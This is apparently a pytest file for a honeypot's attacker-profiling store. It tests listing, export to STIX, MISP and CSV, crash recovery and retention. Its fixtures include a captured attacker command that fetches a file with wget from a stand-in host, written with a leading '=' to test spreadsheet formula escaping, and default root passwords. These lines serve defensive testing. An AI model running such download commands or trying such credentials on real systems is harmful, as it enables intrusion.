"""Attackers: from facts through the journal into tables, out by the operations, on each kind of engine."""

import asyncio
import csv
import io
import itertools
import json
import re
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager, suppress
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncEngine

from decnet_actors.analysis.follower import Follower
from decnet_actors.analysis.profiler import Profiler
from decnet_actors.contracts.errors import OperatorError
from decnet_actors.contracts.operation_table import OperationTable
from decnet_actors.contracts.operations import Caller, Role
from decnet_actors.domain.facts import (
    CloseReason,
    DeckyMutated,
    Direction,
    DownloadRequested,
    FileCaptured,
    SessionClosed,
    SessionOpened,
    ShellCommandSeen,
    SshClientSeen,
    Trigger,
)
from decnet_actors.domain.findings import AttackerObserved, AttackerTraversed
from decnet_actors.domain.records import Record
from decnet_actors.store import tables
from decnet_actors.store.attacker_stix import observable
from decnet_actors.store.attackers import AttackerHandlers
from decnet_actors.store.ledger import JournalLedger
from decnet_actors.store.profiles import ProfileTable
from decnet_actors.store.reader import Reader
from decnet_actors.store.settings import RetentionConfig
from decnet_actors.store.sweep import Sweep
from supervisors.testing import launch, settle
from tests.decnet_actors.store.journals import Harness
from tests.decnet_actors.store.samples import NOW, login, record

ANA = Caller(name="ana", role=Role.VIEWER, via="local")
OPENED = SessionOpened(local_address="192.0.2.1", local_port=22)
CLOSED = SessionClosed(reason=CloseReason.PEER, duration=1.0, bytes_in=100, bytes_out=50)
GO = SshClientSeen(version="SSH-2.0-Go", hassh="ab" * 16, algorithms="x")
MUTATED = DeckyMutated(old=("ssh",), new=("ssh", "http"), trigger=Trigger.SCHEDULED)
OTHER, THIRD = "198.51.100.2", "2001:db8::7"

STORY = (
    record(0, OPENED),
    record(1, GO),
    record(2, login("root", b"123456")),
    record(3, login("root", b"toor", accepted=True)),
    record(4, ShellCommandSeen(line="=wget http://203.0.113.9/x", interactive=True)),
    record(5, DownloadRequested(url="http://203.0.113.9/x", mechanism="wget")),
    record(6, FileCaptured(path="/x", sha256="c" * 64, size=3, direction=Direction.IN, mechanism="wget")),
    record(7, CLOSED),
    record(8, MUTATED, session=None, source="", decky="db-01", service=""),
    record(9, MUTATED, session=None, source="", decky="db-01", service="", time=NOW + 100),
    record(10, OPENED, session=2, decky="db-01", service="redis"),
    record(11, CLOSED, session=2, decky="db-01", service="redis"),
    record(12, OPENED, session=3, source=OTHER),
    record(13, GO, session=3, source=OTHER),
    record(14, login("root", b"123456"), session=3, source=OTHER),
    record(15, OPENED, session=4, source=THIRD, service="http"),
)


@asynccontextmanager
async def followed(harness: Harness) -> AsyncIterator[Follower]:
    """Let a profiler follow the journal; kill it in the end."""
    numbers = itertools.count(1)
    ledger = JournalLedger(
        harness.engine, harness.intake, host="manager", new_id=lambda: f"{id(harness):016x}{next(numbers):016x}"
    )
    follower = Follower(
        lambda: Profiler(ProfileTable(harness.engine)),
        Reader(harness.engine, harness.subscribe),
        ledger,
        linger=0.0,
    )
    launch(follower, "analysis/profiles")
    await follower.started
    try:
        yield follower
    finally:
        follower.kill()


async def at_the_head(harness: Harness) -> None:
    """Return once the profiler has read everything, its own findings included."""
    cursor, fact = tables.cursor.c, tables.fact.c
    while True:
        async with harness.engine.connect() as connection:
            read = (await connection.execute(select(cursor.seq).where(cursor.consumer == "profiles"))).scalar()
            head = (await connection.execute(select(func.max(fact.seq)))).scalar()
        if read == head:
            return
        await settle()


async def tell(engine: AsyncEngine, story: Sequence[Record] = STORY) -> Harness:
    """Let a journal and a profiler take a story in."""
    harness = Harness(engine)
    await harness.start()
    async with followed(harness):
        await harness.keep(*story)
        await at_the_head(harness)
    return harness


def attackers(engine: AsyncEngine) -> OperationTable:
    table = OperationTable(None, lambda: NOW)
    AttackerHandlers(engine).bind(table)
    return table


async def ask(engine: AsyncEngine, name: str, **args: Any) -> Any:
    return await attackers(engine).call(name, args, ANA)


async def contents(engine: AsyncEngine) -> dict[str, list[tuple[Any, ...]]]:
    """Return what the profiler's tables hold, without what depends on how findings were numbered."""
    found: dict[str, list[tuple[Any, ...]]] = {}
    async with engine.connect() as connection:
        for table in (tables.attacker, tables.attacker_visit, tables.attacker_mark, tables.decky_mutation):
            columns = [one for one in table.c if one.name not in {"first_seq", "last_seq", "profile", "mutations"}]
            rows = await connection.execute(select(*columns).order_by(*table.primary_key.columns))
            found[table.name] = [tuple(row) for row in rows]
    return found


async def test_a_story_comes_out_as_profiles(engine: AsyncEngine) -> None:
    harness = await tell(engine)
    await harness.stop()
    page = await ask(engine, "attacker.list")
    detail = await ask(engine, "attacker.show", address="203.0.113.7")

    assert [row["address"] for row in page["items"]] == [THIRD, OTHER, "203.0.113.7"]
    assert {name: detail[name] for name in ("sessions", "credentials", "accepted", "commands", "files", "events")} == {
        "sessions": 2,
        "credentials": 2,
        "accepted": 1,
        "commands": 1,
        "files": 1,
        "events": 10,
    }
    assert [(visit["decky"], visit["services"], visit["events"]) for visit in detail["visits"]] == [
        ("web-01", ["ssh"], 8),
        ("db-01", ["redis"], 2),
    ]
    assert [(one["time"], one["decky"], one["new"]) for one in detail["mutations"]] == [
        (NOW + 8, "db-01", ["ssh", "http"])
    ]
    assert [(one["kind"], one["value"], one["others"]) for one in detail["fingerprints"]] == [
        ("hassh", "ab" * 16, 1),
        ("ssh_version", "SSH-2.0-Go", 1),
    ]
    assert [(one["address"], one["shared"], one["kinds"]) for one in detail["related"]] == [
        (OTHER, 2, ["hassh", "ssh_version"])
    ]
    assert [(one["user"], one["secret"]["text"], one["accepted"]) for one in detail["tried"]] == [
        ("root", "toor", 1),
        ("root", "123456", 0),
    ]
    assert detail["phases"] == {
        "recon_end": NOW + 3,
        "exfil_start": NOW + 4,
        "latency": 1.0,
        "large_payloads": 0,
    }
    assert (detail["bytes_in"], detail["bytes_out"], detail["downloads"], detail["left_out"]) == (200, 100, 1, 0)
    assert [one["value"] for one in detail["urls"]] == ["http://203.0.113.9/x"]


async def test_what_is_found_is_told_and_is_no_act_of_anybody(engine: AsyncEngine) -> None:
    harness = await tell(engine)
    await harness.stop()
    findings = [entry.record for entry in harness.published if not entry.record.source and not entry.record.decky]

    assert [(one.topic, one.fact.address) for one in findings if isinstance(one.fact, AttackerObserved)] == [
        ("attacker.observed", "203.0.113.7"),
        ("attacker.observed", OTHER),
        ("attacker.observed", THIRD),
    ]
    ways = [one.fact for one in findings if isinstance(one.fact, AttackerTraversed)]
    assert [(one.address, one.path) for one in ways] == [("203.0.113.7", ("web-01", "db-01"))]


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        ({"q": "198.51."}, [OTHER]),
        ({"decky": "db-01"}, ["203.0.113.7"]),
        ({"decky": "db"}, []),
        ({"service": "http"}, [THIRD]),
        ({"service": "htt"}, []),
        ({"service": "%"}, []),
        ({"since": NOW + 15}, [THIRD]),
        ({"behaviour": "beaconing"}, []),
        ({"behaviour": "unknown"}, [THIRD, OTHER]),
        ({"tool": "curl"}, []),
        ({"order": "credentials"}, ["203.0.113.7", OTHER, THIRD]),
        ({"order": "first"}, [THIRD, OTHER, "203.0.113.7"]),
        ({"order": "deckies"}, ["203.0.113.7", OTHER, THIRD]),
    ],
)
async def test_attackers_are_chosen_and_ordered(sqlite_engine: AsyncEngine, args: dict[str, Any], expected) -> None:
    await (await tell(sqlite_engine)).stop()

    assert expected == [row["address"] for row in (await ask(sqlite_engine, "attacker.list", **args))["items"]]


@pytest.mark.parametrize("order", ["recent", "first", "events", "accepted"])
async def test_pages_have_everybody_once(engine: AsyncEngine, order: str) -> None:
    await (await tell(engine)).stop()
    seen, cursor = [], None
    while True:
        page = await ask(engine, "attacker.list", order=order, limit=1, cursor=cursor)
        seen += [row["address"] for row in page["items"]]
        if (cursor := page["next"]) is None:
            break

    assert sorted(seen) == sorted(["203.0.113.7", OTHER, THIRD])


@pytest.mark.parametrize("name", ["attacker.show", "attacker.export"])
async def test_somebody_who_never_came_is_said_so(sqlite_engine: AsyncEngine, name: str) -> None:
    with pytest.raises(OperatorError) as caught:
        await ask(sqlite_engine, name, address="\x1b[31m")

    assert (caught.value.kind.code, caught.value.fix) == ("DN3001", ("decnetctl attacker list",))
    assert "\x1b" not in str(caught.value)


async def test_a_kill_at_any_moment_loses_nothing_and_counts_nothing_twice(sqlite_engine: AsyncEngine) -> None:
    story = [
        record(n, login(), session=n // 7, source=f"203.0.113.{n % 5}", decky=f"web-{n % 3}", time=NOW + 7 * n)
        for n in range(200)
    ]
    harness = Harness(sqlite_engine)
    await harness.start()
    for start in range(0, len(story), 20):
        async with followed(harness):
            await harness.keep(*story[start : start + 20])
            for _ in range(start % 7):  # killed before, in and after its work
                await asyncio.sleep(0)
        if start % 3 == 0:  # and the journal with it: what waits for it is lost or kept, never half
            await harness.kill()
            harness.new_process()
            await harness.start()
    async with followed(harness):
        with suppress(TimeoutError):
            async with asyncio.timeout(20):
                await at_the_head(harness)
    interrupted = await contents(sqlite_engine)
    await harness.stop()
    # what a killed journal had kept and not told is read from the table, as every reader does
    kept = await Reader(sqlite_engine).read(after=0, limit=1000)
    told = [one.record.fact for one in kept if isinstance(one.record.fact, AttackerObserved)]

    assert [(row[0], row[3]) for row in interrupted["attacker"]] == [(f"203.0.113.{n}", 40) for n in range(5)]
    assert sum(row[4] for row in interrupted["attacker_visit"]) == 200
    assert sorted(one.address for one in told) == [f"203.0.113.{n}" for n in range(5)]


async def test_replayed_is_the_same_as_live(engine: AsyncEngine) -> None:
    harness = await tell(engine)
    live = await contents(engine)
    async with engine.begin() as connection:
        for table in (tables.attacker, tables.attacker_visit, tables.attacker_mark, tables.decky_mutation):
            await connection.execute(table.delete())
        await connection.execute(tables.cursor.delete().where(tables.cursor.c.consumer == "profiles"))
    async with followed(harness):
        await at_the_head(harness)
    await harness.stop()

    assert live == await contents(engine)


async def exported(engine: AsyncEngine, form: str) -> Any:
    await (await tell(engine)).stop()
    return await ask(engine, "attacker.export", address="203.0.113.7", format=form)


REQUIRED = {  # properties that STIX 2.1 asks for, beside type, id and spec_version
    "identity": {"created", "modified", "name"},
    "observed-data": {"created", "modified", "first_observed", "last_observed", "number_observed", "object_refs"},
    "threat-actor": {"created", "modified", "name"},
    "indicator": {"created", "modified", "pattern", "pattern_type", "valid_from"},
    "tool": {"created", "modified", "name"},
    "note": {"created", "modified", "content", "object_refs"},
    "relationship": {"created", "modified", "relationship_type", "source_ref", "target_ref"},
    "ipv4-addr": {"value"},
    "url": {"value"},
    "file": {"hashes"},
    "user-account": {"account_login"},
    "process": {"command_line"},
}
STIX_ID = re.compile(r"[a-z0-9-]+--[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}")
MOMENT = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z")


async def test_a_stix_bundle_has_what_the_standard_asks_for(sqlite_engine: AsyncEngine) -> None:
    file = await exported(sqlite_engine, "stix")
    bundle = json.loads(file["text"])
    objects = {one["id"]: one for one in bundle["objects"]}

    assert (bundle["type"], set(bundle)) == ("bundle", {"type", "id", "objects"})
    assert len(objects) == len(bundle["objects"])
    for one in objects.values():
        assert one["spec_version"] == "2.1"
        assert STIX_ID.fullmatch(one["id"])
        assert one["id"].startswith(f"{one['type']}--")
        assert REQUIRED[one["type"]] <= set(one)
        for name, value in one.items():
            if name.endswith("_ref"):
                assert value in objects
            if name.endswith("_refs"):
                assert value
                assert set(value) <= set(objects)
            if name in {"created", "modified", "first_seen", "last_seen", "valid_from", "first_observed"}:
                assert MOMENT.fullmatch(value)
    assert {one["type"] for one in objects.values()} == set(REQUIRED) - {"tool"}
    assert "toor" not in file["text"]
    assert file["text"] == (await ask(sqlite_engine, "attacker.export", address="203.0.113.7", format="stix"))["text"]


def test_an_observable_has_the_identifier_everybody_gives_it() -> None:
    # as in the documentation of the OASIS python-stix2 library
    expected = "ipv4-addr--28bb3599-77cd-5a82-a950-b5bc3caf07c4"

    assert expected == observable("ipv4-addr", {"value": "198.51.100.3"})["id"]


async def test_a_misp_event_has_typed_attributes(sqlite_engine: AsyncEngine) -> None:
    event = json.loads((await exported(sqlite_engine, "misp"))["text"])["Event"]
    attributes = {(one["type"], one["value"]): one for one in event["Attribute"]}

    assert (event["date"], event["published"], event["threat_level_id"]) == ("2027-01-15", False, "2")
    assert attributes["ip-src", "203.0.113.7"]["to_ids"] is True
    assert attributes["hassh-md5", "ab" * 16]["to_ids"] is False
    assert attributes["sha256", "c" * 64]["category"] == "Payload delivery"
    assert len({one["uuid"] for one in event["Attribute"]}) == len(event["Attribute"])
    assert not any(value == "toor" for _, value in attributes)


async def test_a_table_has_no_formulas(sqlite_engine: AsyncEngine) -> None:
    file = await exported(sqlite_engine, "csv")
    rows = list(csv.DictReader(io.StringIO(file["text"])))

    assert file["name"] == "attacker-203.0.113.7.csv"
    assert [row["value"] for row in rows if row["what"] == "command"] == ["'=wget http://203.0.113.9/x"]
    assert [row["value"] for row in rows if row["what"] == "decky"] == ["web-01", "db-01"]


async def test_json_is_what_is_shown(sqlite_engine: AsyncEngine) -> None:
    file = await exported(sqlite_engine, "json")

    assert json.loads(file["text"]) == await ask(sqlite_engine, "attacker.show", address="203.0.113.7")


async def test_an_attacker_not_seen_for_long_is_forgotten_with_all_its_rows(
    sqlite_engine: AsyncEngine, tmp_path: Path
) -> None:
    await (await tell(sqlite_engine)).stop()
    config = RetentionConfig(events=0, terminals=0, sessions=0, credentials=0, artifacts=0, sources=10.0, pause=0.0)
    removed = await Sweep(sqlite_engine, tmp_path, config, offload=asyncio.to_thread).run(NOW + 25)

    assert (removed["attacker"], removed["attacker_visit"], removed["attacker_mark"]) == (2, 3, 4)
    assert [row["address"] for row in (await ask(sqlite_engine, "attacker.list"))["items"]] == [THIRD]
    with pytest.raises(OperatorError):
        await ask(sqlite_engine, "attacker.show", address=OTHER)
